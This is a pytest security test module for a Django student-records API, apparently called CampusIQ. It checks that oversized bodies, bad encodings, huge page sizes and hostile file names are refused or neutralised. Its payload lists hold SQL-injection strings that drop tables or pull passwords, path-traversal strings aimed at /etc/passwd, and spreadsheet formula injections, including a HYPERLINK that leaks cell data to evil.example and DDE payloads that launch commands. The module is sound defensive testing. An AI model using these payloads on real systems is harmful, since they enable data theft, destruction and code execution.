"""Hostile input to the API and the admin imports: oversized and non-UTF-8 bodies, page sizes beyond the
cap, SQL-looking and path-traversal strings in filters, ordering, ids, bodies and file names, spreadsheet
formulas in imports. Each gets a clear 4xx in the problem shape (docs/API.md) or is neutralised, and
writes nothing: every table keeps its row count."""

import csv
import io
from urllib.parse import quote

import pytest
from django.apps import apps
from django.db import connection
from django.urls import reverse
from rest_framework.test import APIClient

from accounts.models import User
from accounts.roles import Role
from campusiq.core.models import AuditLogEntry
from students.models import Department, Grade, Student
from tests import factories
from tests.security.fuzzing import bearer, campus_build
from tests.support.uploads import csv_upload

pytestmark = pytest.mark.django_db

SQL_LIKE = ["' OR 1=1 --", "1; DROP TABLE students_student; --", "1' UNION SELECT password FROM accounts_user --"]
TRAVERSAL = ["../../etc/passwd", "..%2F..%2Fetc%2Fpasswd", "..\\..\\windows\\win.ini", "/etc/passwd\x00.csv"]
HOSTILE = SQL_LIKE + TRAVERSAL
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for grades")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def campus(db):
    users, ids = campus_build()
    return {"users": users, "ids": ids}


def api_as(user) -> APIClient:
    client = APIClient(raise_request_exception=False)
    client.credentials(HTTP_AUTHORIZATION=bearer(user)["Authorization"])
    return client


def row_counts() -> dict[str, int]:
    """Every table of ours, by row count (sessions, caches and the rate limits' counters aside)."""
    counts = {}
    for model in apps.get_models():
        if model._meta.app_label in {"students", "attendance", "predictions", "accounts", "core"}:
            counts[model._meta.db_table] = model._default_manager.count()
    return counts


def assert_problem(response, status: int, code: str, field: str | None = None) -> dict:
    """The one error shape: application/problem+json with the code, and the request id of the header."""
    assert response.status_code == status, response.content[:500]
    assert response["Content-Type"] == "application/problem+json"
    body = response.json()
    assert body["status"] == status and body["code"] == code and body["type"] == f"urn:campusiq:problem:{code}"
    assert body["request_id"] == response["X-Request-ID"] and body["detail"]
    if field is not None:
        assert field in {error["field"] for error in body["errors"]}
    return body


# --- Bodies --------------------------------------------------------------------------------------------


def test_an_oversized_json_body_is_refused_with_413_and_writes_nothing(campus, settings):
    client, before = api_as(campus["users"]["registrar"]), row_counts()
    body = b'{"code": "BIG", "name": "' + b"x" * settings.DATA_UPLOAD_MAX_MEMORY_SIZE + b'"}'
    response = client.post("/api/v1/departments/", data=body, content_type="application/json")
    assert_problem(response, 413, "request_too_large")
    assert row_counts() == before


def test_a_content_length_that_is_not_a_number_is_refused(campus):
    client, before = api_as(campus["users"]["registrar"]), row_counts()
    response = client.generic("POST", "/api/v1/departments/", b"{}", "application/json", CONTENT_LENGTH="12abc")
    assert_problem(response, 400, "malformed_request")
    assert row_counts() == before


@pytest.mark.parametrize(
    "body",
    [b'{"code": "\xff\xfe", "name": "Invalid UTF-8"}', b'\xef\xbb\xbf{"code": "\xc3\x28", "name": "x"}', b"\x80"],
    ids=["invalid-byte", "bom-and-truncated-sequence", "lone-continuation-byte"],
)
def test_a_body_that_is_not_utf8_is_refused(campus, body):
    client, before = api_as(campus["users"]["registrar"]), row_counts()
    assert_problem(
        client.post("/api/v1/departments/", data=body, content_type="application/json"), 400, "malformed_request"
    )
    assert row_counts() == before


def test_a_nul_character_in_a_text_field_is_refused(campus):
    client, before = api_as(campus["users"]["registrar"]), row_counts()
    body = b'{"code": "A\\u0000B", "name": "NUL"}'
    response = client.post("/api/v1/departments/", data=body, content_type="application/json")
    assert_problem(response, 400, "validation_error", field="code")
    assert row_counts() == before


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_text_in_a_body_is_stored_as_text_never_run(campus, payload):
    """Queries are parameterised: the string lands as data (or fails validation); no other table moves."""
    client, before = api_as(campus["users"]["registrar"]), row_counts()
    response = client.post("/api/v1/departments/", {"code": "HOST", "name": payload}, format="json")
    after = row_counts()
    if "\x00" in payload:
        assert_problem(response, 400, "validation_error", field="name")
        assert after == before
    else:
        assert response.status_code == 201
        assert Department.objects.get(code="HOST").name == payload
        changed = {table for table in after if after[table] != before[table]}
        assert changed == {"students_department", "core_auditlogentry"}
    assert "students_student" in connection.introspection.table_names()


# --- Query strings, ids, ordering ----------------------------------------------------------------------


def test_invalid_utf8_in_the_query_string_is_neutralised_or_refused(campus):
    client, before = api_as(campus["users"]["registrar"]), row_counts()
    search = client.get("/api/v1/departments/?search=%FF%FE%C3%28")
    assert search.status_code == 200 and search.json()["results"] == []
    assert client.get("/api/v1/departments/?ordering=%FF%FE").status_code == 200
    assert_problem(client.get("/api/v1/grades/?student=%FF%FE"), 400, "validation_error", field="student")
    assert_problem(
        client.get("/api/v1/class-sessions/?updated_since=%FF"), 400, "validation_error", field="updated_since"
    )
    assert_problem(client.get("/api/v1/departments/%FF%FE/"), 404, "not_found")
    # Raw bytes, not percent-encoded, as a careless client might send them.
    raw = client.get("/api/v1/departments/", QUERY_STRING="search=\xff\xfe")
    assert raw.status_code == 200
    assert row_counts() == before


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_strings_in_filters_ordering_and_ids(campus, payload):
    client, value = api_as(campus["users"]["student"]), quote(payload, safe="")
    before = row_counts()
    # Search: a string to look for, nothing more; and never wider than the caller's scope.
    for url in (f"/api/v1/students/?search={value}", f"/api/v1/grades/?search={value}"):
        searched = client.get(url)
        if "\x00" in payload:  # no text column can hold a NUL: refused, never sent to PostgreSQL
            assert_problem(searched, 400, "validation_error")
        else:
            assert searched.status_code == 200 and searched.json()["results"] == []
    # Id filters take whole numbers only.
    for url in (f"/api/v1/grades/?student={value}", f"/api/v1/attendance-records/?session={value}"):
        field = url.split("?")[1].split("=")[0]
        assert_problem(client.get(url), 400, "validation_error", field=field)
    # Ordering: an unknown field is ignored, the default order stands.
    ordered = client.get(f"/api/v1/departments/?ordering={value}")
    assert ordered.status_code == 200 and len(ordered.json()["results"]) >= 1
    # An id in the path: no such object.
    assert_problem(client.get(f"/api/v1/students/{value}/"), 404, "not_found")
    # A cursor is opaque: one that does not decode is refused, one that decodes to nothing starts over.
    cursor = client.get(f"/api/v1/grades/?cursor={value}")
    if cursor.status_code == 404:
        assert_problem(cursor, 404, "not_found")
    else:
        assert cursor.status_code == 200 and len(cursor.json()["results"]) == 1  # the student's own grade
    assert_problem(
        client.get(f"/api/v1/students/?updated_since={value}"), 400, "validation_error", field="updated_since"
    )
    assert row_counts() == before
    assert (
        Student.objects.count() == before["students_student"]
        and "students_student" in connection.introspection.table_names()
    )


def test_instants_far_off_or_with_offsets_postgresql_refuses_never_fail(campus):
    """Python takes offsets up to ±23:59 and PostgreSQL only ±15:59 (campusiq/core/filters.py)."""
    client = api_as(campus["users"]["registrar"])
    for instant in ("2026-07-17T05:31:41.8+18:03", "2026-07-17T05:31:41-23:59"):
        assert client.get(f"/api/v1/class-sessions/?updated_since={quote(instant)}").status_code == 200
    # In UTC this is before the year 1: no datetime can hold it.
    assert_problem(
        client.get(f"/api/v1/class-sessions/?updated_since={quote('0001-01-01T00:00:00+01:00')}"),
        400,
        "validation_error",
        field="updated_since",
    )
    assert_problem(
        client.get(f"/api/v1/attendance-records/?starts_before={quote('9999-12-31T23:59:59-05:00')}"),
        400,
        "validation_error",
        field="starts_before",
    )
    assert client.get(f"/api/v1/grades/?updated_since={quote('2026-07-17T05:31:41+18:03')}").status_code == 200


@pytest.mark.parametrize("value", ["1e40", "99999999999999999999999", "1.5", "-3", "0x10"])
def test_id_filters_take_whole_positive_64_bit_numbers(campus, value):
    client = api_as(campus["users"]["registrar"])
    for url in ("/api/v1/class-sessions/?term=", "/api/v1/risk-scores/?run=", "/api/v1/risk-scores/?term="):
        assert_problem(client.get(url + value), 400, "validation_error", field=url.split("?")[1][:-1])


# --- Page sizes ----------------------------------------------------------------------------------------


def test_page_size_beyond_the_cap_is_capped_and_nonsense_is_refused(campus):
    Department.objects.bulk_create(Department(code=f"B{n:03d}", name=f"Bulk {n}") for n in range(205))
    client = api_as(campus["users"]["student"])
    for size in ("100000", "99999999999999999999999"):
        assert len(client.get(f"/api/v1/departments/?page_size={size}").json()["results"]) == 200
    for size in ("-1", "0", "abc", "1.5", quote("' OR 1=1 --"), "\u0661"):  # the schema: a whole number from 1
        assert_problem(client.get(f"/api/v1/departments/?page_size={quote(size)}"), 400, "validation_error")
    assert_problem(client.get("/api/v1/departments/?page=99999999999999999999999"), 404, "not_found")


def test_page_size_of_people_collections_is_capped_at_1000(campus):
    program = factories.ProgramFactory()
    users = User.objects.bulk_create(User(email=f"bulk{n}@campus.example", password="!") for n in range(1005))
    Student.objects.bulk_create(
        Student(user=user, student_number=f"B{n:06d}", program=program, semester=1) for n, user in enumerate(users)
    )
    body = api_as(campus["users"]["registrar"]).get("/api/v1/students/?page_size=100000").json()
    assert len(body["results"]) == 1000 and body["next"]


# --- Admin imports: formulas and file names ---------------------------------------------------------------


@pytest.fixture
def registrar_client(client, campus):
    client.force_login(factories.UserFactory(roles=[Role.REGISTRAR]))
    return client


def import_file(client, model_name: str, upload):
    """The admin's two steps: preview (a dry run), then confirm. Returns (preview, confirmation)."""
    preview = client.post(
        reverse(f"admin:students_{model_name}_import"), {"resource": "0", "format": "0", "import_file": upload}
    )
    assert preview.status_code == 200
    if "confirm_form" not in preview.context:
        return preview, None
    confirmed = client.post(
        reverse(f"admin:students_{model_name}_process_import"), preview.context["confirm_form"].initial, follow=True
    )
    return preview, confirmed


def student_row(number: str, program: str, **overrides) -> dict:
    row = {"student_number": number, "email": f"{number.lower()}@campus.example", "first_name": "Nova"}
    return row | {"last_name": "Reis", "program": program, "semester": "1", "advisor": ""} | overrides


def test_formulas_in_a_student_import_are_stored_as_text_and_exported_neutralised(registrar_client):
    program = factories.ProgramFactory(code="CS")
    rows = [
        student_row(f"S9{n:03d}", program.code, first_name=formula, last_name=formula)
        for n, formula in enumerate(FORMULAS)
    ]
    import_file(registrar_client, "student", csv_upload(rows))
    imported = Student.objects.filter(student_number__startswith="S9").select_related("user").order_by("student_number")
    # Stored as typed (only the name fields' surrounding whitespace is trimmed by the form layer).
    assert [s.user.first_name.strip() for s in imported] == [f.strip() for f in FORMULAS]

    response = registrar_client.post(
        reverse("admin:students_student_changelist"),
        {"action": "export_admin_action", "_selected_action": [s.pk for s in imported]},
    )
    exported = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert len(exported) == len(FORMULAS)
    for row in exported:
        for column in ("first_name", "last_name"):
            assert row[column].startswith("'") or not row[column].lstrip().startswith(("=", "+", "-", "@")), row[column]


@pytest.mark.parametrize("formula", FORMULAS)
def test_formulas_in_a_grade_import_are_refused_and_nothing_is_written(registrar_client, campus, formula):
    grade = Grade.objects.select_related("student", "assessment__section__course", "assessment__section__term").get()
    section = grade.assessment.section
    row = {
        "student_number": grade.student.student_number,
        "course": section.course.code,
        "term": section.term.name,
        "section": section.code,
        "assessment": grade.assessment.name,
    }
    before, score = row_counts(), grade.score
    for hostile in ({**row, "score": formula}, {**row, "student_number": formula, "score": "10"}):
        preview, confirmed = import_file(registrar_client, "grade", csv_upload([hostile]))
        assert confirmed is None and preview.context["result"].has_validation_errors()
    grade.refresh_from_db()
    assert grade.score == score and row_counts() == before


@pytest.mark.parametrize(
    "name",
    ["../../etc/passwd.csv", "..\\..\\boot.ini.csv", '=HYPERLINK("x").csv', "x'; DROP TABLE students_grade; --.csv"],
)
def test_an_upload_file_name_is_only_a_name(registrar_client, campus, name, tmp_path, settings):
    """The file is read in memory or a temporary file of the library's naming; its name lands, reduced
    to the base name, in the audit reason, and nowhere on disk."""
    settings.MEDIA_ROOT = tmp_path
    grade = Grade.objects.select_related("student", "assessment__section__course", "assessment__section__term").get()
    section = grade.assessment.section
    row = {"student_number": grade.student.student_number, "course": section.course.code, "term": section.term.name,
           "section": section.code, "assessment": grade.assessment.name, "score": "13"}  # fmt: skip
    _, confirmed = import_file(registrar_client, "grade", csv_upload([row], name=name))
    assert confirmed.status_code == 200
    grade.refresh_from_db()
    assert str(grade.score) == "13.00"
    reason = AuditLogEntry.objects.filter(verb="grade.changed").latest("id").reason
    assert (
        reason.startswith("Imported from ") and "/" not in reason and "\\" not in reason.removeprefix("Imported from ")
    )
    assert not list(tmp_path.rglob("*passwd*")) and not list(tmp_path.rglob("*boot.ini*"))
